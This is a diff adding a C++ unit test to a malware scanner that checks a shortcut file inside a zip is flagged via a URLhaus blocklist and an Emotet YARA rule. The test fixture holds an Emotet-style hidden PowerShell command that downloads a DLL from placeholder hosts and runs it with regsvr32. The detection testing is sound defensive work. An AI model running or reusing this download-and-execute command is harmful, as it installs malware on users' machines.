@@ -179,6 +179,25 @@ TEST(YaraEngine, UrlhausUrlSplitInVbaStyleStringIsFlagged) {
     EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), u), r.urls.end()) << u;
 }
 
+TEST(YaraEngine, UrlhausUrlInShortcutArgumentsIsFlagged) {
+  // Shortcut strings are UTF-16LE; the URL is found and matched all the same.
+  TempDir d;
+  Config c;
+  c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
+  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
+  Scanner s(c);
+  auto lnk = fixtures::lnk_with_arguments(
+      "-w hidden -c \"foreach($u in 'http://shop.example.com/wp-admin/Zx1/','https://b.example/y/')"
+      "{try{iwr $u -OutFile $env:TEMP\\q.dll;regsvr32 /s $env:TEMP\\q.dll;break}catch{}}\"",
+      {}, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
+  Report r = s.scan_file(make_zip(d, "Form.lnk", lnk), "Form.zip");
+  const Finding* f = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->path, "Form.zip/Form.lnk");
+  EXPECT_NE(find(r, FindingType::yara, "Emotet_LNK_PowerShell_Downloader_2022"), nullptr);
+  EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), "https://b.example/y/"), r.urls.end());
+}
+
 TEST(YaraEngine, MissingIntelFileFailsLoading) {
   Config c;
   c.rules.paths = {};
